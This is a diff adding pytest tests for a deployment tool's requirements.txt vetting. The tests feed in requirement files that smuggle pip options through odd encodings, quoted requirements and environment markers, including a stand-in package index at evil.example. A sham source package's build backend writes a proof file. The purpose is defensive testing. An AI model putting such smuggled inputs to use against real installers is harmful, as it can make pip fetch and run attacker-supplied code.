@@ -15,6 +15,7 @@ import pytest
 
 from zeroscale.artifacts.holds import Holds
 from zeroscale.artifacts.pyenv import PythonEnvs, env_key, has_requirements, pip_environment, pip_tail
+from zeroscale.artifacts.requirements import Vetted, vet
 from zeroscale.errors import DeployError
 
 
@@ -68,7 +69,7 @@ async def test_installs_once_and_reuses(
     lib = await envs.prepare(offline)
     assert lib is not None
     assert (lib / "zsdemo.py").read_text() == "VERSION = '1.0'\n"
-    assert lib.parent.name == env_key(offline.read_bytes())
+    assert lib.parent.name == env_key(vet(offline))
     assert (lib.parent / "complete").is_file()
     assert await envs.prepare(offline) == lib
     # Another server (process) on the same data dir finds it too.
@@ -103,7 +104,7 @@ async def test_failure_is_pips_message_and_is_not_cached(tmp_path: Path) -> None
     message = str(err.value)
     assert message.startswith("pip install -r requirements.txt failed (exit 1):")
     assert "zeroscale-not-a-package==9" in message
-    assert not envs.is_complete(env_key(req.read_bytes()))
+    assert not envs.is_complete(env_key(vet(req)))
     assert list((tmp_path / "pyenvs" / "tmp").iterdir()) == []
 
 
@@ -116,8 +117,9 @@ async def test_timeout_kills_pip(offline: Path, tmp_path: Path) -> None:
 
 
 def test_key_is_content_and_interpreter() -> None:
-    assert env_key(b"roman\n") == env_key(b"roman\n")
-    assert env_key(b"roman\n") != env_key(b"roman==5\n")
+    assert env_key(Vetted(["roman"])) == env_key(Vetted(["roman"]))
+    assert env_key(Vetted(["roman"])) != env_key(Vetted(["roman==5"]))
+    assert env_key(Vetted(["roman"])) != env_key(Vetted(["roman"], options=["--pre"]))
 
 
 def test_pip_tail_keeps_the_errors() -> None:
@@ -199,6 +201,76 @@ async def test_a_source_distribution_is_never_built(tmp_path: Path, monkeypatch:
     with pytest.raises(DeployError, match=r"pip install -r requirements\.txt failed"):
         await PythonEnvs(tmp_path / "pyenvs").prepare(requirements(code, "--no-index\nzsbuilt==1.0\n"))
     assert not proof.exists()  # its setup.py never ran
+
+
+def _evil_sdist(code: Path, proof: Path) -> None:
+    """``evilpkg-1.0.tar.gz`` in the code directory: building it (its in-tree backend) writes ``proof``."""
+    files = {
+        "evilpkg-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
+        "evilpkg-1.0/pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\n'
+        b'backend-path = ["."]\n',
+        "evilpkg-1.0/backend.py": f"open({str(proof)!r}, 'w').write('ran')\n".encode(),
+    }
+    with tarfile.open(code / "evilpkg-1.0.tar.gz", "w:gz") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+
+
+@pytest.mark.parametrize(
+    ("raw", "why"),
+    [  # pip decodes by a byte-order mark or a PEP 263 line: options the UTF-8 reading never saw
+        ("--no-index\n--find-links .\n--no-binary evilpkg\nevilpkg\n".encode("utf-16"), "not UTF-8 text"),
+        (b"# -*- coding: utf-7 -*-\n+AC0ALQ-no-binary evilpkg\nevilpkg\n", "not UTF-8 text"),
+        (b"evilpkg\x00\n", "not UTF-8 text"),
+        (b"\xff\xfeevilpkg\n", "not UTF-8 text"),
+        # quoted, a requirement holds what pip (splitting on spaces) reads as options
+        (b'"evilpkg --no-binary evilpkg"\n', "cannot be read as a requirement"),
+        (b"evilpkg ; extra == ' -ihttp://evil.example/'\n", "cannot be read as a requirement"),
+        (b"evilpkg ; python_version > '3' -i http://evil.example/\n", "another package index"),
+        (b"'./evil pkg-1.0-py3-none-any.whl'\n", "no spaces"),
+    ],
+)
+async def test_what_pip_would_read_otherwise_than_the_vetting_is_refused(
+    tmp_path: Path, raw: bytes, why: str
+) -> None:
+    code = tmp_path / "code"
+    code.mkdir()
+    proof = tmp_path / "built"
+    _evil_sdist(code, proof)
+    (code / "evil pkg-1.0-py3-none-any.whl").write_bytes(b"")
+    (code / "requirements.txt").write_bytes(raw)
+    with pytest.raises(DeployError, match=why):
+        await PythonEnvs(tmp_path / "pyenvs").prepare(code / "requirements.txt")
+    assert not proof.exists()
+
+
+async def test_pip_reads_what_was_vetted_markers_hashes_and_nested_files_kept(tmp_path: Path) -> None:
+    """The file pip installs from is written by zeroscale: requirements canonical, markers and hashes kept,
+    nested requirements flattened and constraints apart, pip's options given once on its command line."""
+    code = tmp_path / "code"
+    (code / "wheels").mkdir(parents=True)
+    wheel = make_wheel(code / "wheels")
+    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
+    (code / "more.txt").write_text("-c pins.txt\nroman ; python_version < '3'\n")
+    (code / "pins.txt").write_text("roman==4.2\n")
+    req = requirements(
+        code,
+        f"\ufeff--no-index\n./wheels/{wheel.name} ; python_version >= '3.8' --hash=sha256:{digest}\n"
+        "-r more.txt\n",
+    )
+    vetted = vet(req)
+    assert vetted.requirements == [
+        f'./wheels/{wheel.name} ; python_version >= "3.8" --hash=sha256:{digest}',
+        'roman; python_version < "3"',
+    ]
+    assert (vetted.constraints, vetted.options) == (["roman==4.2"], ["--no-index"])
+    lib = await PythonEnvs(tmp_path / "pyenvs").prepare(req)
+    assert lib is not None and (lib / "zsdemo.py").exists()  # roman's marker is false: not installed
+    (code / "requirements.txt").write_text(f"--no-index\n./wheels/{wheel.name} --hash=sha256:{'0' * 64}\n")
+    with pytest.raises(DeployError, match="HASHES"):  # pip checks the hash it was given
+        await PythonEnvs(tmp_path / "other").prepare(req)
 
 
 def test_pip_gets_none_of_the_servers_credentials() -> None:
